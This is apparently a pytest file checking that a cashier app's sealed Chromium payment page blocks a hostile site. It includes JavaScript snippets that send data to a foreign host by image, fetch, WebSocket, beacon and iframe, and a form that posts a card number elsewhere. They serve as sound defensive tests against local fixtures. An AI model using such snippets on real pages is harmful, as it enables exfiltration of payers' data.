"""The sealed page against real Chromium and a site that tries everything (behaviour P18)."""

import base64
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import QObject, QPoint, Qt, QUrl, Slot
from PySide6.QtGui import QDesktopServices, QGuiApplication
from PySide6.QtTest import QTest
from PySide6.QtWebEngineCore import (
    QWebEngineCertificateError,
    QWebEnginePage,
    QWebEngineProfile,
    QWebEngineSettings,
)
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot
from shiboken6 import delete

from cashier.ui.lockdown import RequestGuard, SealedPage, seal_profile
from cashier.ui.payment_view import BLOCKED_REPORTS_MAX
from cashier.ui.top_level_policy import Blocked, TopLevelPolicy
from tests.ui.hostile_site import FOREIGN_HOST, GATEWAY_HOST, HostileSite, Reply, redirect, self_signed
from tests.ui.payment_harness import BIG_BUTTON, BIG_LINK, WAIT_MS, Watched, training

FIVE_WAYS_OUT = """<script>
  const out = "{origin}";
  new Image().src = out + "/image";
  fetch(out + "/fetch", {{mode: "no-cors"}}).catch(() => 0);
  new WebSocket(out.replace("http", "ws") + "/socket");
  navigator.sendBeacon(out + "/beacon", "told");
  const frame = document.createElement("iframe");
  frame.src = out + "/frame";
  document.body.append(frame);
</script>"""
FIVE_PATHS = {"/image", "/fetch", "/socket", "/beacon", "/frame"}


def test_the_five_ways_out_do_get_out_of_an_unsealed_page(
    qtbot: QtBot, site: HostileSite, foreign: HostileSite
) -> None:
    # The check on the checks below: without the lock-down this very page reaches the foreign host five times.
    profile = QWebEngineProfile()
    page = QWebEnginePage(profile)
    page.load(QUrl(site.page("/pay", FIVE_WAYS_OUT.format(origin=foreign.origin))))
    qtbot.waitUntil(lambda: set(foreign.paths) >= FIVE_PATHS, timeout=WAIT_MS)
    delete(page)
    delete(profile)


def test_p18_five_ways_out_are_closed(watched: Watched, site: HostileSite, foreign: HostileSite) -> None:
    watched.open(site.page("/pay", FIVE_WAYS_OUT.format(origin=foreign.origin)))
    watched.wait_blocked(Blocked.RESOURCE, FOREIGN_HOST, times=4)
    watched.wait_blocked(Blocked.NAVIGATION, FOREIGN_HOST)
    assert foreign.seen == []
    assert site.paths == ["/pay"]


class TrustingPage(SealedPage):
    """A sealed page that takes the test's own certificate; nothing else is different."""

    def _reject_certificate(self, error: QWebEngineCertificateError) -> None:
        error.acceptCertificate()


def test_an_encrypted_page_may_load_encrypted_resources_only(qtbot: QtBot, tmp_path: Path) -> None:
    # Outside training: reCAPTCHA and the like come over https from other hosts, plain http from nowhere.
    context, _ = self_signed(tmp_path)
    with (
        HostileSite(tls=context) as gateway,
        HostileSite(tls=context) as captcha,
        HostileSite() as plain,
    ):
        blocked: list[tuple[str, str]] = []

        def report(kind: Blocked, host: str) -> None:
            blocked.append((kind.value, host))

        policy = TopLevelPolicy.of([gateway.origin], None)
        profile = QWebEngineProfile()
        submitted: list[bool] = []
        guard = RequestGuard(policy, report, lambda: submitted.append(True))
        seal_profile(profile, guard, report, "en-US")
        page = TrustingPage(profile, policy, report, lambda: None)
        body = (
            FIVE_WAYS_OUT.format(origin=plain.origin)
            + f"""
            <script src="{captcha.origin}/api.js"></script>
            <script>fetch("{captcha.origin}/told", {{method: "POST", mode: "no-cors"}})</script>"""
        )
        page.load(QUrl(gateway.page("/pay", body)))
        qtbot.waitUntil(lambda: {"/api.js", "/told"} <= set(captcha.paths), timeout=WAIT_MS)
        qtbot.waitUntil(lambda: blocked.count(("resource", GATEWAY_HOST)) >= 4, timeout=WAIT_MS)
        qtbot.waitUntil(lambda: ("navigation", GATEWAY_HOST) in blocked, timeout=WAIT_MS)
        assert plain.seen == []
        # What is told to a helper of the page is not the payer paying.
        assert submitted == []
        for part in (page, profile, guard):
            delete(part)


def test_p18_a_self_signed_certificate_is_never_taken(qtbot: QtBot, tmp_path: Path) -> None:
    context, _ = self_signed(tmp_path)
    with HostileSite(tls=context) as site:
        watched = Watched(qtbot, training(site))
        watched.view.open(site.page("/pay", "x"))
        watched.wait_blocked(Blocked.CERTIFICATE, GATEWAY_HOST)
        watched.wait(lambda: watched.loaded == [False])
        assert site.seen == []
        assert "Do not charge again" in watched.notice
        watched.view.close_page()


def test_p18_a_form_posted_elsewhere_never_arrives(
    watched: Watched, site: HostileSite, foreign: HostileSite
) -> None:
    form = f'<form method="post" action="{foreign.origin}/take"><input name="pan" value="4111111111111111">'
    watched.open(site.page("/pay", form + f"</form>{BIG_BUTTON}"))
    watched.click()
    watched.wait_blocked(Blocked.NAVIGATION, FOREIGN_HOST)
    assert foreign.seen == []


def test_p18_a_redirect_elsewhere_is_stopped(
    watched: Watched, site: HostileSite, foreign: HostileSite
) -> None:
    site.pages["/go"] = redirect(foreign.origin + "/taken")
    watched.view.open(site.origin + "/go")
    watched.wait_blocked(Blocked.NAVIGATION, FOREIGN_HOST)
    assert foreign.seen == []
    assert watched.returned == 0


@pytest.mark.parametrize(
    "href", ["file:///etc/hostname", "chrome://crash", "data:text/html,x", "view-source:http://127.0.0.1/"]
)
def test_p18_a_link_to_another_scheme_leads_nowhere(watched: Watched, site: HostileSite, href: str) -> None:
    url = site.page("/pay", BIG_LINK.format(href=href, more='onclick="document.title=1"'))
    watched.open(url)
    watched.click()
    watched.wait(lambda: watched.page.title() == "1")
    # Chromium stops some of these itself (and says so on the console), the rest is reported by us.
    watched.wait(lambda: watched.view.console_count > 0 or bool(watched.blocked))
    assert watched.page.url() == QUrl(url)
    assert watched.view.is_open


class Desktop(QObject):
    """Stands where the operating system's programs for mail and telephone would be started."""

    def __init__(self) -> None:
        super().__init__()
        self.asked: list[QUrl] = []

    @Slot(QUrl)
    def start(self, url: QUrl) -> None:
        self.asked.append(url)


def test_p18_a_link_starts_no_other_program(watched: Watched, site: HostileSite) -> None:
    desktop = Desktop()
    QDesktopServices.setUrlHandler("mailto", desktop, "start")  # type: ignore[arg-type]  # takes str only
    QDesktopServices.openUrl(QUrl("mailto:works@example.org"))
    assert desktop.asked == [QUrl("mailto:works@example.org")]
    url = site.page("/pay", BIG_LINK.format(href="mailto:a@example.org", more='onclick="document.title=1"'))
    watched.open(url)
    watched.click()
    watched.wait(lambda: watched.page.title() == "1")
    # A navigation after it has gone through Chromium and been reported; the first would have come before.
    watched.script("location = 'data:text/html,x'")
    watched.wait(lambda: watched.view.console_count > 0 or ("navigation", "") in watched.blocked)
    QDesktopServices.unsetUrlHandler("mailto")
    assert desktop.asked == [QUrl("mailto:works@example.org")]
    assert watched.page.url() == QUrl(url)


@pytest.mark.parametrize("more", ['target="_blank"', 'onclick="window.open(this.href); return false"'])
def test_p18_no_second_window(watched: Watched, site: HostileSite, more: str) -> None:
    watched.open(site.page("/pay", BIG_LINK.format(href=site.origin + "/popup", more=more)))
    windows = len(QApplication.topLevelWidgets())
    watched.click()
    watched.wait_blocked(Blocked.POPUP, GATEWAY_HOST)
    assert watched.script("1") == 1
    assert site.paths == ["/pay"]
    assert len(QApplication.topLevelWidgets()) == windows


def test_p18_no_window_without_a_click_either(watched: Watched, site: HostileSite) -> None:
    watched.open(site.page("/pay", '<script>window.opened = window.open("/popup")</script>'))
    assert watched.script("window.opened === null") is True
    assert site.paths == ["/pay"]


def test_p18_nothing_is_downloaded(watched: Watched, site: HostileSite) -> None:
    name = f"hostile-{site.port}.bin"
    site.pages["/file"] = Reply("x", headers={"Content-Disposition": f"attachment; filename={name}"})
    watched.open(site.page("/pay", BIG_LINK.format(href="/file", more="")))
    folder = Path(watched.page.profile().downloadPath())
    watched.click()
    watched.wait_blocked(Blocked.DOWNLOAD, GATEWAY_HOST)
    assert not list(folder.glob(f"{name}*"))
    assert watched.notice == ""


ASK = """<script>
  window.answers = {{}};
  const note = name => text => {{ window.answers[name] = String(text); }};
  {ask}
</script>"""


@pytest.mark.parametrize(
    ("ask", "answer"),
    [
        ("navigator.geolocation.getCurrentPosition(note('it'), error => note('it')(error.code))", "1"),
        ("Notification.requestPermission().then(note('it'))", "denied"),
        ("navigator.mediaDevices.getUserMedia({{audio: true}}).catch(e => note('it')(e.name))", ""),
        ("navigator.clipboard.readText().catch(e => note('it')(e.name))", "NotAllowedError"),
        ("navigator.clipboard.writeText('x').catch(e => note('it')(e.name))", "NotAllowedError"),
        ("navigator.mediaDevices.getDisplayMedia({{video: true}}).catch(e => note('it')(e.name))", ""),
        ("window.showOpenFilePicker().catch(e => note('it')(e.name))", ""),
        ("document.documentElement.requestFullscreen().catch(e => note('it')(e.name))", ""),
        (
            "navigator.credentials.get({{publicKey: {{challenge: new Uint8Array(16), timeout: 1000}}}})"
            ".catch(e => note('it')(e.name))",
            "",
        ),
    ],
)
def test_p18_every_permission_is_denied(watched: Watched, site: HostileSite, ask: str, answer: str) -> None:
    """`answer` empty: any refusal will do."""
    watched.open(site.page("/pay", ASK.format(ask=ask.replace("{{", "{").replace("}}", "}"))))
    watched.wait(lambda: "it" in watched.script("window.answers"))
    told = watched.script("window.answers")["it"]
    assert told
    assert not answer or told == answer


def test_p18_permissions_asked_are_reported(watched: Watched, site: HostileSite) -> None:
    watched.open(site.page("/pay", "<script>navigator.geolocation.getCurrentPosition(() => 0)</script>"))
    watched.wait_blocked(Blocked.PERMISSION, GATEWAY_HOST)


def test_p18_dialogs_do_not_stop_the_till(watched: Watched, site: HostileSite) -> None:
    body = "<script>alert(1); window.said = [confirm(2), prompt(3, 'x')]</script>"
    watched.open(site.page("/pay", body))
    watched.wait_blocked(Blocked.DIALOG, GATEWAY_HOST, times=3)
    assert watched.script("window.said") == [False, None]
    assert QApplication.activeModalWidget() is None


def test_p18_a_request_for_a_password_is_not_answered(watched: Watched, site: HostileSite) -> None:
    site.pages["/pay"] = Reply("no", 401, {"WWW-Authenticate": 'Basic realm="card"'})
    watched.view.open(site.origin + "/pay")
    watched.wait_blocked(Blocked.AUTHENTICATION, GATEWAY_HOST)
    watched.wait(lambda: bool(watched.loaded))
    assert QApplication.activeModalWidget() is None
    # There is no name and no password to tell; see the work-around in `SealedPage._leave_unauthenticated`.
    nothing = base64.b64encode(b":").decode()
    assert {request.headers.get("Authorization") for request in site.seen} <= {None, f"Basic {nothing}"}
    assert len(site.seen) < 10


def test_p18_printing_is_not_possible(watched: Watched, site: HostileSite) -> None:
    watched.open(site.page("/pay", "<script>window.print()</script>"))
    watched.wait_blocked(Blocked.PRINT, GATEWAY_HOST)


def test_p18_no_file_can_be_chosen(watched: Watched, site: HostileSite) -> None:
    body = '<input id="file" type="file" style="position:fixed;inset:0;width:100%;height:100%">'
    watched.open(site.page("/pay", body))
    watched.click()
    watched.wait_blocked(Blocked.FILE, GATEWAY_HOST)
    assert watched.script('document.getElementById("file").files.length') == 0
    assert QApplication.activeModalWidget() is None


def test_p18_what_is_copied_in_the_page_does_not_stay_on_the_clipboard(
    watched: Watched, site: HostileSite
) -> None:
    clipboard = QGuiApplication.clipboard()
    watched.open(site.page("/pay", '<input value="4111111111111111" autofocus onfocus="this.select()">'))
    watched.wait_ready()
    proxy = watched.keys
    QTest.keyClick(proxy, Qt.Key.Key_A, Qt.KeyboardModifier.ControlModifier)
    QTest.keyClick(proxy, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    watched.wait_blocked(Blocked.CLIPBOARD, GATEWAY_HOST)
    assert clipboard.text() == ""
    # What the clerk copies elsewhere in the till stays.
    watched.before.setFocus()
    clipboard.setText("A-000123")
    assert clipboard.text() == "A-000123"
    clipboard.clear()


def test_p18_console_messages_are_counted_and_kept_nowhere(
    watched: Watched, site: HostileSite, capfd: pytest.CaptureFixture[str], qtlog: Any
) -> None:
    watched.open(site.page("/pay", "<script>console.log('4111111111111111'); console.error('x')</script>"))
    watched.wait(lambda: watched.view.console_count == 2)
    watched.view.close_page()
    assert watched.view.console_count == 2
    told = "".join(capfd.readouterr()) + "".join(record.message for record in qtlog.records)
    assert "4111111111111111" not in told


def test_p18_no_menu_no_drop_and_every_setting_off(watched: Watched, site: HostileSite) -> None:
    watched.open(site.page("/pay", "x"))
    for widget in (watched.view, watched.web):
        assert widget.contextMenuPolicy() is Qt.ContextMenuPolicy.NoContextMenu
        assert not widget.acceptDrops()
    watched.wait_ready()
    QTest.mouseClick(watched.keys, Qt.MouseButton.RightButton, pos=QPoint(60, 60))
    assert watched.script("1") == 1
    assert QApplication.activePopupWidget() is None
    attribute = QWebEngineSettings.WebAttribute
    settings = watched.page.settings()
    for off in (attribute.ErrorPageEnabled, attribute.PdfViewerEnabled, attribute.PluginsEnabled):
        assert not settings.testAttribute(off)
    assert settings.testAttribute(attribute.WebRTCPublicInterfacesOnly)
    profile = watched.page.profile()
    assert profile.isOffTheRecord()
    assert profile.httpCacheType() is QWebEngineProfile.HttpCacheType.NoCache
    assert not profile.isPushServiceEnabled()
    assert watched.page.webChannel() is None
    assert watched.page.devToolsPage() is None
    assert watched.page.scripts().isEmpty() and profile.scripts().isEmpty()


def test_a_page_cannot_flood_the_till_with_reports(
    watched: Watched, site: HostileSite, foreign: HostileSite
) -> None:
    body = f"""<script>
      const all = [];
      for (let i = 0; i < {BLOCKED_REPORTS_MAX + 50}; i++) all.push(fetch("{foreign.origin}").catch(() => 0));
      Promise.all(all).then(() => document.title = "done");
    </script>"""
    watched.open(site.page("/pay", body))
    watched.wait(lambda: watched.page.title() == "done")
    assert watched.blocked == [("resource", FOREIGN_HOST)] * BLOCKED_REPORTS_MAX
    assert foreign.seen == []


def test_nothing_of_a_payment_survives_into_the_next(watched: Watched, site: HostileSite) -> None:
    body = "<script>window.kept = localStorage.kept; localStorage.kept = 'yes'</script>"
    url = site.page("/pay", body, Set_Cookie="payer=1; Max-Age=86400; Path=/")
    watched.open(url)
    with watched.qtbot.waitSignal(watched.view.loaded, timeout=WAIT_MS):
        watched.script("location.reload()")
    assert watched.script("window.kept") == "yes"
    watched.open(url)
    assert watched.script("window.kept ?? null") is None
    assert ["payer=1" in request.headers.get("Cookie", "") for request in site.seen] == [False, True, False]
